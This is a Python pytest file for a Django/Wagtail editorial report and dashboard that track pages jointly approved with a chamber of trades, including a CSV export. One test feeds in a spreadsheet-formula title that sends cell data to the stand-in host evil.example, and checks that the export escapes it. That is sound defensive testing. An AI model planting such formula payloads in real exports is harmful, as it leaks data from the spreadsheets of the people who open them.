"""The "Contenus conjoints" report and the chamber approver's dashboard."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from django.urls import reverse

from tests.factories.editorial import UserFactory

from .conftest import edit, in_the_future, workflow_action

pytestmark = pytest.mark.django_db

REPORT = "editorial:joint_content"


@pytest.fixture
def pages_in_every_state(make_page, author, reviewer, approver, login, on_commit):  # type: ignore[no-untyped-def]
    """One joint page per editorial state, and an ordinary page that must not be listed."""
    make_page("Ordinaire", joint=False)
    make_page("Brouillon")
    review = make_page("En relecture")
    on_commit(edit, login(author), review, "action-submit")

    chamber = make_page("Chez la Chambre")
    on_commit(edit, login(author), chamber, "action-submit")
    on_commit(workflow_action, login(reviewer), chamber, "approve")

    changes = make_page("A reprendre")
    on_commit(edit, login(author), changes, "action-submit")
    on_commit(workflow_action, login(reviewer), changes, "approve")
    on_commit(workflow_action, login(approver), changes, "reject", "Revoir le titre.")

    live = make_page("En ligne")
    on_commit(edit, login(author), live, "action-submit")
    on_commit(workflow_action, login(reviewer), live, "approve")
    on_commit(workflow_action, login(approver), live, "approve")
    return {"live": live}


def rows_of_csv(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content)
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_report__lists_each_joint_page_with_its_state(
    pages_in_every_state, approver, login
) -> None:
    response = login(approver).get(reverse(REPORT))
    assert response.status_code == 200
    content = response.content.decode()
    for title in ("Brouillon", "En relecture", "Chez la Chambre", "A reprendre", "En ligne"):
        assert title in content
    assert "Ordinaire" not in content
    for state in (
        "brouillon",
        "en relecture",
        "en attente de la Chambre",
        "modifications demandées",
        "publiée",
    ):
        assert state in content


def test_report__csv_export_says_who_approved_and_when(
    pages_in_every_state, approver, author, login
) -> None:
    response = login(author).get(reverse(REPORT) + "?export=csv")
    assert response.status_code == 200
    rows = {row["Titre"]: row for row in rows_of_csv(response)}
    assert set(rows) == {"Brouillon", "En relecture", "Chez la Chambre", "A reprendre", "En ligne"}
    assert rows["En ligne"]["État"] == "publiée"
    assert rows["En ligne"]["Validé par"] == approver.get_full_name() == "Approbatrice"
    assert rows["En ligne"]["Validé le"]
    assert rows["En ligne"]["Partenaire"] == "Chambre de métiers et de l'artisanat"
    assert rows["Chez la Chambre"]["État"] == "en attente de la Chambre"
    assert rows["A reprendre"]["État"] == "modifications demandées"
    assert rows["Brouillon"]["Validé par"] == ""


def test_report__csv_export_quotes_a_title_that_is_a_formula(make_page, approver, login) -> None:  # type: ignore[no-untyped-def]
    make_page('=HYPERLINK("https://evil.example/?d="&A1;"Voir")')
    make_page("Atelier du lundi")

    rows = rows_of_csv(login(approver).get(reverse(REPORT) + "?export=csv"))

    titles = sorted(row["Titre"] for row in rows)
    assert titles == ['\'=HYPERLINK("https://evil.example/?d="&A1;"Voir")', "Atelier du lundi"]


def test_report__filters_by_state(pages_in_every_state, approver, login) -> None:
    response = login(approver).get(reverse(REPORT) + "?editorial_state=chambre&export=csv")
    assert [row["Titre"] for row in rows_of_csv(response)] == ["Chez la Chambre"]


def test_report__shows_an_approved_revision_scheduled_for_later(
    make_page, author, reviewer, approver, login, on_commit
) -> None:
    page = make_page("Validée, pas encore en ligne")
    on_commit(edit, login(author), page, "action-submit", go_live_at=in_the_future())
    on_commit(workflow_action, login(reviewer), page, "approve")
    on_commit(workflow_action, login(approver), page, "approve")
    page.refresh_from_db()
    assert not page.live
    response = login(approver).get(reverse(REPORT) + "?editorial_state=approuvee&export=csv")
    assert [row["Titre"] for row in rows_of_csv(response)] == ["Validée, pas encore en ligne"]


def test_report__refused_to_a_user_without_an_editorial_role(db, login) -> None:  # type: ignore[no-untyped-def]
    from django.contrib.auth.models import Permission

    stranger = UserFactory(username="visiteur")
    stranger.user_permissions.add(Permission.objects.get(codename="access_admin"))
    response = login(stranger).get(reverse(REPORT))
    assert response.status_code in (302, 403)
    assert "Chez la Chambre" not in response.content.decode()


def test_dashboard__shows_the_chamber_approver_what_awaits_them_first(
    pages_in_every_state, approver, login
) -> None:
    response = login(approver).get(reverse("wagtailadmin_home"))
    assert response.status_code == 200
    content = response.content.decode()
    assert "En attente de la Chambre" in content
    panel = content.index("editorial-awaiting-chamber")
    assert "Chez la Chambre" in content[panel:]
    for other in ('id="awaiting-review"', "recent-edits", "locked-pages"):
        if other in content:
            assert content.index(other) > panel
